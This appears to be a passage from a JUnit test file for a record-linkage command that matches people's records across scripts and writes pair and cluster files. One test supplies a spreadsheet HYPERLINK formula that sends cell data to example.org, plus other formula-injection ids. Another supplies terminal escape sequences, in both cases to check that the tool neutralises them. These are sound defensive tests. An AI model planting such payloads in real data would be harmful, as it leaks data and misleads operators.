package org.opennrm.matching;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.offset;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import org.opennrm.matching.bulk.CommandConsole;
import org.opennrm.matching.generator.GeneratorConfig;
import org.opennrm.matching.generator.PopulationGenerator;

/** The bulk command as a ministry's analyst runs it: good files, bad rows, bad files. */
class BulkMatchCommandTests extends CommandConsole {

	static final String PEOPLE = HEADER
			+ "g1,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
			+ "n7,Fatemeh,Hosseini,,,1994,F,AFG\n"
			+ "i3,,,فاطمه حسینی,,1994,F,\n"
			+ "c9,Фатима,Хусейни,,1994-03-12,,F,AFG\n"
			+ "x1,Olga,Petrova,,1988-11-02,,F,UKR\n";

	@Test
	void aTurkishMachineGetsTurkishUnlessEnglishIsAskedFor() throws Exception {
		java.util.Locale.setDefault(java.util.Locale.forLanguageTag("tr-TR"));
		Path input = file("records.csv", PEOPLE);
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p1.csv").toString())).isZero();
		assertThat(errors()).contains("Okunan kayıt: 5");
		assertThat(Files.readString(dir.resolve("p1.csv"))).contains("aynı doğum tarihi");
		err.reset();
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p2.csv").toString(), "--lang", "en")).isZero();
		assertThat(errors()).contains("Records read: 5");
		err.reset();
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p3.csv").toString(), "--lang", "de"))
			.isEqualTo(2);
		assertThat(errors()).contains("Kullanım");
	}

	@Test
	void findsTheSamePersonAcrossScriptsAndWritesPairsAndClusters() throws Exception {
		Path input = file("records.csv", PEOPLE);
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("clusters.csv").toString())).isZero();
		List<String> pairs = Files.readAllLines(dir.resolve("pairs.csv"));
		assertThat(pairs.get(0)).isEqualTo("left_id,right_id,score,decision,explanation");
		assertThat(String.join("\n", pairs)).contains("g1,c9,").doesNotContain("x1");
		List<String> clusters = Files.readAllLines(dir.resolve("clusters.csv"));
		assertThat(clusters).contains("id,cluster_id", "g1,g1", "c9,g1", "x1,x1");
		long counted = clusters.stream().skip(1).map(line -> line.split(",")[1]).distinct().count();
		assertThat(errors()).contains("Records read: 5; skipped: 0").contains("Clusters: " + counted + " for 5 records")
			.containsPattern("People, estimated: about [1-5]: the clusters, less the likelihood");
	}

	/**
	 * A record with the year of birth only, or 1 January, matches every record of its name and year: it joins one of
	 * them, and never two whose full dates tell two people (a tester found five "Mehmet Yılmaz" of 1985, three of
	 * them born on other days, counted as one person through it).
	 */
	@Test
	void aRecordWithTheYearOnlyDoesNotJoinTwoPeopleWhoseDatesDisagree() throws Exception {
		Path input = file("records.csv", HEADER
				+ "Z1,Mehmet,Yılmaz,,1985-04-12,,M,TUR\n"
				+ "Z2,Mehmet,Yılmaz,,1985-09-23,,M,TUR\n"
				+ "Z3,Mehmet,Yılmaz,,1985-11-07,,M,TUR\n"
				+ "Z4,Mehmet,Yılmaz,,,1985,M,TUR\n"
				+ "Z5,Mehmet,Yılmaz,,1985-01-01,,M,TUR\n"
				+ "K1,Zeynep,Kaya,,2001-02-03,,F,TUR\n"
				+ "K2,Zeynep,Kaya,,2001-08-19,,F,TUR\n"
				+ "K3,Zeynep,Kaya,,,2001,F,TUR\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("clusters.csv").toString(), "--lang", "en")).isZero();
		java.util.Map<String, String> cluster = new java.util.HashMap<>();
		Files.readAllLines(dir.resolve("clusters.csv")).stream().skip(1)
			.forEach(line -> cluster.put(line.split(",")[0], line.split(",")[1]));
		assertThat(java.util.stream.Stream.of("Z1", "Z2", "Z3").map(cluster::get).distinct()).hasSize(3);
		assertThat(cluster.get("K1")).isNotEqualTo(cluster.get("K2"));
		// the year-only records do join one of them, and their pairs with the others are for a person to decide
		assertThat(cluster.get("Z4")).isIn(cluster.get("Z1"), cluster.get("Z2"), cluster.get("Z3"));
		assertThat(cluster.get("K3")).isIn(cluster.get("K1"), cluster.get("K2"));
		List<String> pairs = Files.readAllLines(dir.resolve("pairs.csv"));
		assertThat(pairs).anyMatch(line -> line.startsWith("Z1,Z2,") && line.contains(",POSSIBLE,"))
			.noneMatch(line -> line.startsWith("Z1,Z2,") && line.contains(",MATCH,"));
	}

	/** The README's example is what the command writes: the file, the pairs and the clusters as shown there. */
	@Test
	void theReadmesExampleIsWhatTheCommandWrites() throws Exception {
		String readme = Files.readString(Path.of("README.md"));
		Path input = file("records.csv", between(readme, "$ cat records.csv\n", "$ java -jar"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("clusters.csv").toString(), "--lang", "en")).isZero();
		assertThat(Files.readString(dir.resolve("pairs.csv")).replace("\r\n", "\n"))
			.isEqualTo(between(readme, "$ cat pairs.csv\n", "$ cat clusters.csv"));
		assertThat(Files.readString(dir.resolve("clusters.csv")).replace("\r\n", "\n"))
			.isEqualTo(between(readme, "$ cat clusters.csv\n", "```"));
	}

	private static String between(String text, String start, String end) {
		int from = text.indexOf(start) + start.length();
		assertThat(from).as("README holds %s", start).isGreaterThanOrEqualTo(start.length());
		return text.substring(from, text.indexOf(end, from));
	}

	@Test
	void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws Exception {
		// a merged legacy file can hold anything in its ids; the pairs and clusters files are opened in spreadsheets
		Path input = file("records.csv", HEADER
				+ "\"=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"open\"\")\",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
				+ "@SUM(1+1),Fatemeh,Hosseini,,1994-03-12,,F,AFG\n"
				+ "-7,Fatima,Huseyni,,1994-03-12,,F,AFG\n"
				+ "A-7,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
				+ "+905551112233,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
				+ "'quoted,Fatma,Hüseyni,,1994-03-12,,F,AFG\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("clusters.csv").toString())).isZero();
		List<String> ids = new java.util.ArrayList<>();
		for (CSVRecord pair : pairs(dir.resolve("pairs.csv"))) {
			ids.add(pair.get("left_id"));
			ids.add(pair.get("right_id"));
		}
		assertThat(ids).contains("'=HYPERLINK(\"http://example.org/?\"&A1,\"open\")", "'@SUM(1+1)", "'-7", "A-7",
				"'+905551112233", "''quoted")
			.noneMatch(id -> id.startsWith("=") || id.startsWith("@") || id.startsWith("-") || id.startsWith("+"));
		assertThat(Files.readString(dir.resolve("clusters.csv"))).contains("'@SUM(1+1),").doesNotContain("\n@", "\n=");
	}

	@Test
	void controlCharactersOfTheInputNeverReachTheTerminal() throws Exception {
		// an escape that clears the screen, one that moves up and erases the line before (a "skipped" line hidden),
		// a bell, a right-to-left override
		String clear = "\u001B[2Jx";
		Path input = file("records.csv", HEADER
				+ clear + ",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
				+ clear + ",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
				+ "e2,Ali,Veli,,1990-01-01,,Q\u001B[1A\u001B[2K,TUR\n"
				+ "e3,Ali,Veli,,1990-01-01,,\u0007\u202E,TUR\n"
				+ "رضا\u200Cزاده,Reza,Zadeh,,1990-01-01,,M,IRN\n"
				+ "رضا\u200Cزاده,Reza,Zadeh,,1990-01-01,,M,IRN\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
			.isZero();
		// a Persian name's zero-width non-joiner is how it is written, not a control
		assertThat(errors()).contains("the id \"رضا\u200Cزاده\" appears more than once");
		assertThat(errors()).contains("the id \"\\u001B[2Jx\" appears more than once")
			.contains("Line 4: sex (a value of 9 characters, not shown").contains("\\u0007\\u202E")
			.doesNotContain("\u001B", "\u0007", "\u202E");
	}

	@Test
	void anOutputIsNeverWrittenOverTheInputOrTheOtherOutput() throws Exception {
		Path input = file("records.csv", PEOPLE);
		assertThat(run("--input", input.toString(), "--output", input.toString(), "--lang", "en")).isEqualTo(2);
		assertThat(errors()).contains("is named by both --input and --output: the command would write over it");
		assertThat(Files.readString(input)).isEqualTo(PEOPLE);
		err.reset();
		// through another spelling of the same path
		Path sameByAnotherName = dir.resolve(".").resolve("records.csv");
		assertThat(run("--input", input.toString(), "--output", sameByAnotherName.toString())).isEqualTo(2);
		assertThat(Files.readString(input)).isEqualTo(PEOPLE);
		err.reset();
		Path pairs = dir.resolve("pairs.csv");
		assertThat(run("--input", input.toString(), "--output", pairs.toString(), "--clusters", pairs.toString(),
				"--lang", "en")).isEqualTo(2);
		assertThat(errors()).contains("is named by both --output and --clusters");
	}

	@Test
	void aFolderThatCannotBeWrittenIsFoundBeforeTheMatchingAndNoPartOfAFileIsLeft() throws Exception {
		Path input = file("records.csv", PEOPLE);
		// a wrong path, as every wrong argument or file ends the run: code 2 (1 is for running out of memory, or of disk)
		assertThat(run("--input", input.toString(), "--output", dir.resolve("missing/pairs.csv").toString(), "--lang",
				"en")).isEqualTo(2);
		assertThat(errors()).contains("The folder " + dir.resolve("missing") + " does not exist, so "
				+ dir.resolve("missing/pairs.csv") + " cannot be written").doesNotContain("Records read");
		err.reset();
		// a folder where a file is wanted
		Files.createDirectories(dir.resolve("a-folder"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("a-folder").toString(), "--lang", "en")).isEqualTo(2);
		assertThat(errors()).contains("is a folder, or something else that is not a file: name a file for --clusters");
		assertThat(Files.exists(dir.resolve("pairs.csv"))).isFalse();
		// before the input is even read: a file that cannot be read is not the first thing the user hears of
		Path unreadable = file("old.csv", "id,name\n1,x\n");
		assertThat(run("--input", unreadable.toString(), "--output", dir.resolve("missing/pairs.csv").toString()))
			.isEqualTo(2);
		assertThat(errors()).contains("The folder ").doesNotContain("header");
		// nor is one output written while the other cannot be
		assertThat(run("--input", input.toString(), "--output", dir.resolve("alone.csv").toString(), "--clusters",
				dir.resolve("missing/clusters.csv").toString())).isEqualTo(2);
		assertThat(Files.exists(dir.resolve("alone.csv"))).isFalse();
		// a run that fails on its input leaves no part of its outputs, and the outputs of an earlier run as they were
		Path pairs = dir.resolve("pairs.csv");
		Files.writeString(pairs, "an earlier run's pairs");
		Path bad = file("bad.csv", "id,name\n1,x\n");
		assertThat(run("--input", bad.toString(), "--output", pairs.toString(), "--clusters",
				dir.resolve("clusters.csv").toString())).isEqualTo(2);
		assertThat(Files.readString(pairs)).isEqualTo("an earlier run's pairs");
		assertThat(Files.exists(dir.resolve("clusters.csv"))).isFalse();
		try (var files = Files.list(dir)) {
			assertThat(files.map(f -> f.getFileName().toString())).noneMatch(name -> name.endsWith(".part"));
		}
		// a run that succeeds replaces them whole
		assertThat(run("--input", input.toString(), "--output", pairs.toString())).isZero();
		assertThat(Files.readString(pairs)).startsWith("left_id,right_id,score,decision,explanation");
	}

	@Test
	void lineNumbersAreRightInAFileWhoseLinesEndWithACarriageReturnAlone() throws Exception {
		// an old Mac file: lines end with CR
		Path input = file("records.csv", (HEADER + "a1,Ali,Veli,,1990-01-01,,M,TUR\n" + "a2,Ali,Veli,,1990-13-45,,M,TUR\n")
			.replace("\n", "\r"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
			.isZero();
		assertThat(errors()).contains("Line 3: skipped: birth_date");
	}

	@Test
	void aWorkbookOfSeveralSheetsSaysWhichWasReadAndABrokenOneEndsWithItsReason() throws Exception {
		Path input = dir.resolve("years.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var sheet = workbook.createSheet("2025");
			String[][] rows = { HEADER.strip().split(","), { "a1", "Ali", "Veli", "", "1990-01-01", "", "M", "TUR" } };
			for (int r = 0; r < rows.length; r++) {
				var row = sheet.createRow(r);
				for (int c = 0; c < rows[r].length; c++) {
					row.createCell(c).setCellValue(rows[r][c]);
				}
			}
			workbook.createSheet("2024").createRow(0).createCell(0).setCellValue("id");
			workbook.createSheet("2023");
			workbook.write(stream);
		}
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
			.isZero();
		assertThat(errors()).contains("Only the first sheet, \"2025\", was read: the workbook has 2 more (2024, 2023)");
		err.reset();
		// a cell that points at a shared text the workbook does not have
		rewriteEntry(input, "xl/worksheets/sheet1.xml", xml -> xml.replaceFirst("<v>\\d+</v>", "<v>99999</v>"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
			.isEqualTo(2);
		assertThat(errors()).contains("cannot be read as an Excel workbook").contains("points at nothing, at cell ")
			.doesNotContain("\tat ");
	}

	@Test
	void aMessageOfOneKindIsListedForAHundredLinesAndTheRestCounted() throws Exception {
		StringBuilder rows = new StringBuilder(HEADER);
		for (int i = 1; i <= 150; i++) {
			rows.append("w").append(i).append(",Ayşe,Yılmaz").append(i % 7).append(",,1990-01-01,,Bayan,TUR\n");
		}
		rows.append("w1,Ali,Veli,,1990-01-01,,M,TUR\n");
		Path input = file("records.csv", rows.toString());
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
			.isZero();
		String said = errors();
		assertThat(said.lines().filter(l -> l.contains("sex (a value of 5 characters, not shown"))).hasSize(100);
		assertThat(said).contains("Line 101: ").doesNotContain("Line 102: ")
			.contains("50 more lines had the message of line 2, not listed (the first 100 are, above).")
			// another kind of message is listed all the same
			.contains("Line 152: skipped: the id \"w1\" appears more than once")
			.contains("Records read: 151; skipped: 1");
	}

	@Test
	void recordsWithASlipInEveryNameAreStillCompared() throws Exception {
		// no name keeps its first three consonants in both records, so they share none of the index's keys
		Path input = file("records.csv", HEADER
				+ "a1,Moammaf,Uthman,,1994-05-09,,M,IRQ\n"
				+ "a2,Mohamac,Osman,,1994-05-09,,M,IRQ\n"
				+ "b1,Zarhqa,Ghaseri,,,2002,F,IRN\n"
				+ "b2,Zahra,Ghaderi,,,2002,F,IRN\n"
				+ "c1,Şahnoza,Karimowa,,2004-12-02,,F,UZB\n"
				+ "c2,Shahnoxa,Karimova,,2003-12-02,,F,UZB\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("pairs.csv"))).contains("a1,a2,", "b1,b2,", "c1,c2,");
	}

	@Test
	void recordsWhoseOneNameHasASlipAmongItsFirstLettersAreStillCompared() throws Exception {
		// each pair shares no key of the index's nor of the slips in every name: one name has a letter left out,
		// mistyped or read otherwise in its first three consonants, and a date or year is missing or differs
		Path input = file("records.csv", HEADER
				+ "a1,Anas,Walid,,1986-09-13,,M,SYR\n"
				+ "a2,ANAS,WAID,,,,M,SYR\n"
				+ "b1,Osasu,Ogunyemi,,1981-05-08,,F,NGA\n"
				+ "b2,Osasu,Ounyemi,,1981-08-05,,F,NGA\n"
				+ "c1,Ecaterina,Popa,,1977-11-17,,F,MDA\n"
				+ "c2,POPA,EKATERENA,,,1977,F,MDA\n"
				+ "d1,Ewter,,,,1989,F,UGA\n"
				+ "d2,Ester,Mwangi,,1989-01-10,,F,UGA\n"
				+ "x1,Anas,Karimov,,1990-02-03,,M,SYR\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString())).isZero();
		Map<String, String> decided = pairs(dir.resolve("pairs.csv")).stream()
			.collect(Collectors.toMap(p -> p.get("left_id") + "-" + p.get("right_id"), p -> p.get("decision")));
		assertThat(decided).containsKeys("a1-a2", "b1-b2", "c1-c2", "d1-d2").doesNotContainKeys("a1-x1", "a2-x1");
	}

	@Test
	void aRecordNamingOneNameMeetsTheRecordsThatCarryItAmongOthers() throws Exception {
		// a hotline's "Roya" of 1975 (a name of one consonant, which is keyed with a year only alone) and a shelter's
		// "Kamran" without a year: until they were keyed by the name alone, neither was compared with anyone
		Path input = file("records.csv", HEADER
				+ "h1,Roya,,,,1975,F,IRN\n"
				+ "r1,Roya,Rezai,Roya Rezai,1975-02-05,,F,IRN\n"
				+ "r2,ROOYA,REZAAI,,1975-02-05,1975,F,IRN\n"
				+ "k1,Kamran,-,,,,M,AZE\n"
				+ "k2,Kamran,Nabiyev,,1983-12-13,,M,AZE\n"
				+ "x1,Olga,Petrova,,1988-11-02,,F,UKR\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString())).isZero();
		Map<String, String> decided = pairs(dir.resolve("pairs.csv")).stream()
			.collect(Collectors.toMap(p -> p.get("left_id") + "-" + p.get("right_id"), p -> p.get("decision")));
		assertThat(decided).containsEntry("h1-r1", "MATCH").containsEntry("h1-r2", "MATCH").containsEntry("r1-r2", "MATCH")
			.containsKey("k1-k2").doesNotContainKeys("h1-x1", "k1-x1", "h1-k1");
	}

	@Test
	void aFileWhoseYearsComeFromAgesToldAgainIsToldHowItsYearsWeigh() throws Exception {
		// 400 people written twice with a year alone, one in four two years apart (an age told at each registration)
		StringBuilder file = new StringBuilder(HEADER);
		for (int i = 0; i < 400; i++) {
			String given = YearGapsTests.GIVEN.get(i % 20);
			String family = YearGapsTests.FAMILY.get(i / 20);
			int year = 1960 + i % 45;
			file.append("a").append(i).append(',').append(given).append(',').append(family).append(",,,").append(year)
				.append(",,UZB\n");
			file.append("b").append(i).append(',').append(given).append(',').append(family).append(",,,")
				.append(year + (i % 4 == 0 ? 2 : 0)).append(",,UZB\n");
		}
		Path input = file("records.csv", file.toString());
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString())).isZero();
		assertThat(errors()).contains("Years of birth: in 400 pairs of records writing one full name",
				"against -4 and -10 as fitted");
		Map<String, String> decided = pairs(dir.resolve("pairs.csv")).stream()
			.collect(Collectors.toMap(p -> p.get("left_id") + "-" + p.get("right_id"), p -> p.get("decision")));
		assertThat(decided).containsEntry("a0-b0", "MATCH").containsEntry("a4-b4", "MATCH");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "tr"))
			.isZero();
		assertThat(errors()).contains("Doğum yılları: aynı tam adı yazan, yalnız yıl ya da 1 Ocak taşıyan 400 kayıt çifti");
	}

	@Test
	void malformedRowsAreReportedWithTheirLineAndSkipped() throws Exception {
		Path input = file("records.csv", HEADER
				+ "a1,Ali,Karimi,,1990-01-01,,M,AFG\n"
				+ "a2,Ali,Karimi,,1990-13-45,,M,AFG\n"
				+ "a3,Ali,Karimi,,,19x0,M,AFG\n"
				+ "a1,Ali,Karimi,,,1990,M,AFG\n"
				+ ",Ali,Karimi,,,1990,M,AFG\n"
				+ "a6,Ali,Karimi,,,1990\n"
				+ "a8,Ali,Karimi,,,1990,M,AFG\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors()).contains("Line 3: skipped: birth_date \"1990-13-45\" is no day of the calendar")
			.contains("Line 4: skipped: birth_year \"19x0\" is not a year of four digits")
			.contains("Line 5: skipped: the id \"a1\" appears more than once")
			.contains("Line 6: skipped: the id is empty")
			.contains("Line 7: skipped: expected 8 fields, found 6")
			.contains("Records read: 7; skipped: 5");
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("a1,a8,");
	}

	@Test
	void lineNumbersAreTheFilesOwnWithEmptyLinesAndNamesOverTwoLines() throws Exception {
		Path input = file("records.csv", HEADER
				+ "a1,Ahmet,\"Yılmaz\nOğlu\",,1990-01-01,,M,TUR\n"
				+ "\n"
				+ "a2,Mehmet,Kaya,,1990-02-30,,M,TUR\n"
				+ "a3,Ali,Veli,,,,M\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors()).contains("Line 5: skipped: birth_date \"1990-02-30\" is no day of the calendar")
			.contains("Line 6: skipped: expected 8 fields, found 7");
	}

	@Test
	void aNicknameInQuotesIsReadAndAQuoteNeverClosedEndsTheRunNamingItsLine() throws Exception {
		Path nickname = file("nickname.csv", HEADER
				+ "a1,Ali Veli,Kaya,,1980-05-05,,M,TUR\n"
				+ "a2,\"Ali\" Veli,Kaya,,1980-05-05,,M,TUR\n");
		assertThat(run("--input", nickname.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("a1,a2,").contains("MATCH");
		err.reset();
		Path unclosed = file("unclosed.csv", HEADER
				+ "a1,Ali,Kaya,,1980-05-05,,M,TUR\n"
				+ "\n"
				+ "a2,\"Ali Veli,Kaya,,1980-05-05,,M,TUR\n"
				+ "a3,Ayşe,Kaya,,1981-05-05,,F,TUR\n");
		assertThat(run("--input", unclosed.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("Line 4: a quoted field begins here and is never closed").doesNotContain("Exception");
	}

	@Test
	void anIdTakenOnlyByALineThatWasSkippedIsFreeForTheNext() throws Exception {
		Path input = file("records.csv", HEADER
				+ "a1,Ayşe,Demir,,1990-02-30,,F,TUR\n"
				+ "a1,Ayşe,Demir,,1990-02-03,,F,TUR\n"
				+ "b1,Ayşe,Demir,,1990-02-03,,F,TUR\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors()).contains("Line 2: skipped").doesNotContain("Line 3").contains("skipped: 1");
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("a1,b1,");
	}

	@Test
	void aColumnNamedTwiceEndsTheRun() throws Exception {
		Path input = file("records.csv", HEADER.strip() + ",Given_Names\n" + "a1,Ahmet,Kaya,,,1990,M,TUR,\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("names these columns more than once: given_names");
	}

	@Test
	void oldExcelWorkbooksAndUtf16TextAreToldApart() throws Exception {
		Path xls = dir.resolve("old.xls");
		Files.write(xls, new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0 });
		assertThat(run("--input", xls.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("Excel 97-2003 workbook (.xls)");
		err.reset();
		// an .xlsx protected by a password is kept in the same container, encrypted
		Path locked = dir.resolve("locked.xlsx");
		Files.copy(xls, locked);
		assertThat(run("--input", locked.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("is protected by a password (or is an old .xls file renamed)");
		err.reset();
		// Excel's "Unicode text": UTF-16, little-endian, with its byte order mark, tab-separated
		Path unicodeText = dir.resolve("unicode.txt");
		Files.write(unicodeText, ("\uFEFF" + PEOPLE.replace(',', '\t')).getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
		assertThat(run("--input", unicodeText.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("g1,c9,");
		err.reset();
		// a file that begins with an empty line is still told by its header's delimiter
		Path semicolons = file("s.csv", "\n" + PEOPLE.replace(',', ';'));
		assertThat(run("--input", semicolons.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("g1,c9,");
	}

	@Test
	void aSexOrCitizenshipOfAnotherNotationIsLeftOutAndTheRecordKept() throws Exception {
		Path input = file("records.csv", HEADER
				+ "e1,Ayşe,Demirci,,1990-04-01,,K,TUR\n"
				+ "e2,Ayse,Demirci,,1990-04-01,,f,tur\n"
				+ "m1,Murat,Kaplan,,1985-02-11,,E,TUR\n"
				+ "m2,Murat,Kaplan,,1985-02-11,,M,TUR / DEU\n"
				+ "x1,Deniz,Arslan,,1999-09-09,,X,TUR\n"
				+ "x2,Deniz,Arslan,,1999-09-09,,Bayan,Türkei\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors())
			.contains("Line 7: sex (a value of 5 characters, not shown: it may be a name or a person's number) is not M, F (E, K as Turkish forms write them; Erkek, Kadın, Male, Female in words; X or U for not known), so the record is compared without it")
			.contains("Line 7: citizenship (a value of 6 characters, not shown: it may be a name or a person's number) is "
					+ "neither a code of the country list (a country's ISO 3166-1 code, SYR or SY, or ICAO's, XXA for a "
					+ "stateless person; several separated by |) nor a name the list gives in Turkish or English (Suriye, "
					+ "Syria, Vatansız), so the record is compared without it")
			.contains("Records read: 6; skipped: 0")
			.doesNotContain("Line 2:").doesNotContain("Line 5:").doesNotContain("Line 6:");
		String pairs = Files.readString(dir.resolve("p.csv"));
		assertThat(pairs.lines().filter(line -> line.startsWith("e1,e2,")).findFirst().orElseThrow())
			.contains("MATCH").contains("same citizenship").doesNotContain("different sex");
		assertThat(pairs.lines().filter(line -> line.startsWith("m1,m2,")).findFirst().orElseThrow())
			.contains("MATCH").contains("same citizenship");
		assertThat(pairs).contains("x1,x2,");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "tr")).isZero();
		assertThat(errors()).contains("Satır 7: citizenship (6 karakterlik bir değer; bir ad ya da bir kişinin numarası "
				+ "olabileceği için gösterilmiyor) ne ülke listesindeki bir kod (bir ülkenin ISO 3166-1 kodu, SYR ya da SY, "
				+ "veya ICAO'nun kodu, vatansız bir kişi için XXA; birden fazlası | ile ayrılır) ne de listenin Türkçe veya "
				+ "İngilizce verdiği bir ad (Suriye, Syria, Vatansız); kayıt onsuz karşılaştırılır");
	}

	@Test
	void aNameTooLongIsCutAndAMisplacedValueIsNotRepeatedInFull() throws Exception {
		Path input = file("records.csv", HEADER
				+ "l1,Gulnora" + " Abdullayevna".repeat(40) + ",Rakhimova,,1991-03-08,,F,UZB\n"
				+ "l2,Gulnora,Rakhimova,,1991-03-08,,Rakhimova Gulnora Abdullayevna,UZB\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en")).isZero();
		assertThat(errors())
			.contains("Line 2: given_names is longer than 400 characters, so only its first 400 are compared")
			.contains("Line 3: sex (a value of 30 characters, not shown: it may be a name or a person's number) is not M, F")
			.doesNotContain("Rakhimova Gulnora")
			.doesNotContain("Abdullayevna\"")
			.contains("Records read: 2; skipped: 0");
	}

	@Test
	void aCellBeyondTheLastColumnOfASheetIsLeftOut() throws Exception {
		Path input = dir.resolve("wide.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var sheet = workbook.createSheet("records");
			String[][] rows = { HEADER.strip().split(","), { "w1", "Fatma", "Hüseyni", "", "1994-03-12", "", "F", "AFG" },
					{ "w2", "Fatemeh", "Hosseini", "", "1994-03-12", "", "F", "AFG" } };
			for (int r = 0; r < rows.length; r++) {
				var row = sheet.createRow(r);
				for (int c = 0; c < rows[r].length; c++) {
					row.createCell(c).setCellValue(rows[r][c]);
				}
			}
			workbook.write(stream);
		}
		// a cell no spreadsheet program writes: column ZZZZZZ, 321 million columns to the right
		rewriteEntry(input, "xl/worksheets/sheet1.xml", xml -> xml.replaceFirst("(<row r=\"2\".*?)(</row>)",
				"$1<c r=\"ZZZZZZ2\" t=\"inlineStr\"><is><t>x</t></is></c>$2"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en")).isZero();
		assertThat(errors()).contains("Records read: 2; skipped: 0");
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("w1,w2,");
	}

	/**
	 * A workbook damaged where a value the format keeps as a number holds text (a row's number, a cell's style, the
	 * number of a cell's shared text), as a crafted or broken file may, is told what failed and where, never with the
	 * text: Apache POI's message quoted it ("For input string: \"Zahra Hosseini\""), which was printed, and for a
	 * shared text POI logs it and leaves the cell out (the log canary fails the test if a name reaches the log).
	 */
	@Test
	void aDamagedWorkbookIsToldWhatFailedAndWhereNeverWithItsText() throws Exception {
		Path whole = dir.resolve("whole.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(whole)) {
			var sheet = workbook.createSheet("records");
			String[][] rows = { HEADER.strip().split(","), { "w1", "Fatma", "Hüseyni", "", "1994-03-12", "", "F", "AFG" },
					{ "w2", "Zahra", "Hosseini", "", "1994-03-12", "", "F", "AFG" } };
			for (int r = 0; r < rows.length; r++) {
				var row = sheet.createRow(r);
				for (int c = 0; c < rows[r].length; c++) {
					row.createCell(c).setCellValue(rows[r][c]);
				}
			}
			workbook.write(stream);
		}
		String value = "a value the format keeps as a number (a row's number, a cell's reference or style, the number "
				+ "of a shared text) is none, or points at nothing, at ";
		List<Map.Entry<String, java.util.function.UnaryOperator<String>>> damages = List.of(
				Map.entry(value + "the first sheet, after row 2.)",
						xml -> xml.replace("<row r=\"3\"", "<row r=\"Zahra Hosseini\"")),
				Map.entry(value + "cell B3 of the first sheet.)",
						xml -> xml.replaceFirst("(<c r=\"B3\"[^>]*) s=\"\\d+\"", "$1 s=\"Zahra Hosseini\"")),
				// the last: the Turkish run below reads it
				Map.entry(value + "cell C3 of the first sheet.)",
						xml -> xml.replaceFirst("(<c r=\"C3\"[^>]*><v>)\\d+(</v>)", "$1Zahra Hosseini$2")));
